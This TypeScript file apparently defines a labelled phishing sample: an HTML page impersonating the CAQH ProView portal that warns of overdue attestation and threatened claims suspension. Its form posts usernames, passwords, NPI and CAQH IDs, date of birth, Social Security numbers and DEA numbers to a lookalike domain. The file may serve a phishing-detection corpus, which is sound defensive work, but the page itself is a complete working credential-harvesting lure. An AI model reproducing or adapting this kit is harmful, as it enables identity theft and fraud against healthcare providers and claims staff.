import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, css, dotIcon, logos, revB64, shell } from '../parts/yt-kit.js';

/** Kits aimed at provider offices and claims staff: Availity, One Healthcare ID, CAQH, EFT changes, secure-mail portals. */


// ---- CAQH ProView re-attestation
const caqhKit = shell({
  title: 'CAQH ProView - Re-Attestation Required',
  favicon: dotIcon('#00558c'),
  css: css.portal + `.btn{background:#00558c;border-radius:3px}.warn{background:#fdecea;border-left:5px solid #c62828;padding:12px;font-size:14px;margin-bottom:16px}`,
  body: `<div class="top">${logos.caqh}<span style="font-size:13px;color:#00558c">ProView® Provider Data Portal</span></div>
<div class="card" style="max-width:520px">
  <div class="warn"><b>Attestation overdue (121 days).</b> Health plans you participate with can no longer access your profile. Your network participation and claims payments may be suspended. Re-attest now to avoid termination.</div>
  <h1>Provider Login</h1>
  <form method="post" action="https://caqh-proview-attest.com/reattest/submit.php">
    <label>Username</label><input type="text" name="username" required>
    <label>Password</label><input type="password" name="password" required>
    <label>Individual NPI</label><input type="text" name="npi" maxlength="10" required>
    <label>CAQH Provider ID</label><input type="text" name="caqhid" required>
    <label>Date of birth</label><input type="text" name="dob" placeholder="MM/DD/YYYY" required>
    <label>Social Security Number</label><input type="password" name="ssn" maxlength="11" required>
    <label>DEA registration # (if applicable)</label><input type="text" name="dea">
    <button class="btn">Log In and Re-Attest</button>
  </form>
</div>
<div class="foot">© 2025 CAQH. All rights reserved.</div>`,
});

export const entries: Entry[] = [
{
  id: 'yt-caqh-proview-reattest-ssn',
  label: 'phishing',
  kind: 'provider-portal-credential-kit',
  url: 'https://caqh-proview-attest.com/reattest/login',
  body: caqhKit,
},
];
